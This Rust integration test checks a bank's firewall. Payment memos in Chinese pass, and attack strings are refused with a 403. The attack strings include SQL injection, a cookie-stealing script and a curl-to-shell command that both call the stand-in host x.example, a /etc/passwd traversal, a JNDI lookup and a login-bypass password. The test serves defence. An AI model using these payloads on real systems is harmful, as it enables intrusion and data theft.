//! The firewall in front of a whole bank, with the rules that Debian ships: attacks are refused before anything is done,
//! and Chinese customers are not taken for attackers.

use testkit::{BankBox, Failed, enroll};
use uuid::Uuid;

/// Memos, and whether they are attacks.
const MEMOS: &[(&str, bool)] = &[
    ("房租、水电和物业费，请查收；下个月15号再转余下的！", false),
    ("妈妈生日快乐❤️ 8:30 在「老地方」见——别忘了带 <礼物>", false),
    ("第3/4期：2+2=4；余款 & 押金（100%）已付", false),
    ("还款 or 借款？都可以，你选。", false),
    ("'; DROP TABLE accounts; --", true),
    ("1' UNION SELECT password FROM customers --", true),
    ("<script>document.location='//x.example/'+document.cookie</script>", true),
    ("＜script＞alert(1)＜/script＞", true),
    ("$(curl http://x.example/a.sh | sh)", true),
    ("../../../../etc/passwd", true),
    ("${jndi:ldap://x.example/a}", true),
];

#[tokio::test]
async fn attacks_are_refused_and_chinese_customers_are_not() -> Result<(), Failed> {
    for bank in BankBox::walled().await? {
        let store = bank.store;
        let people = enroll(&bank.books()?, 2, 100_000).await?;
        let client = people[0].sign_in(&bank.client()).await?;
        for (memo, attack) in MEMOS {
            let order = people[0].order(&people[1], "0.01", memo);
            let key = Uuid::now_v7().to_string();
            let answer = client.post_keyed("/api/payments/transfers", &order, &key).await?;
            let expected = if *attack { (403, "request_refused") } else { (201, "") };
            assert_eq!((answer.status.as_u16(), answer.code()), expected, "{store}: {memo}");
        }
        // Nothing of a refused one was done.
        let path = format!("/api/accounts/{}", people[1].account.id);
        let payee = people[1].sign_in(&bank.client()).await?;
        let account = payee.get(&path).await?.expect(200)?;
        assert!(account.body.to_string().contains("\"1000.04\""), "{store}: {}", account.body);
        // A password may be any text, and what is not one is a wrong password.
        let sign_in = serde_json::json!({"name": people[0].phone, "password": "' OR '1'='1"});
        let answer = bank.client().post("/api/identity/sign-in", &sign_in).await?;
        assert_eq!(answer.status.as_u16(), 401, "{store}: {}", answer.body);
        // Pages are behind it as well.
        let (status, ..) = bank.client().fetch("/?q=%3Cscript%3Ealert(1)%3C/script%3E").await?;
        assert_eq!(status.as_u16(), 403, "{store}");
        bank.close().await;
    }
    Ok(())
}
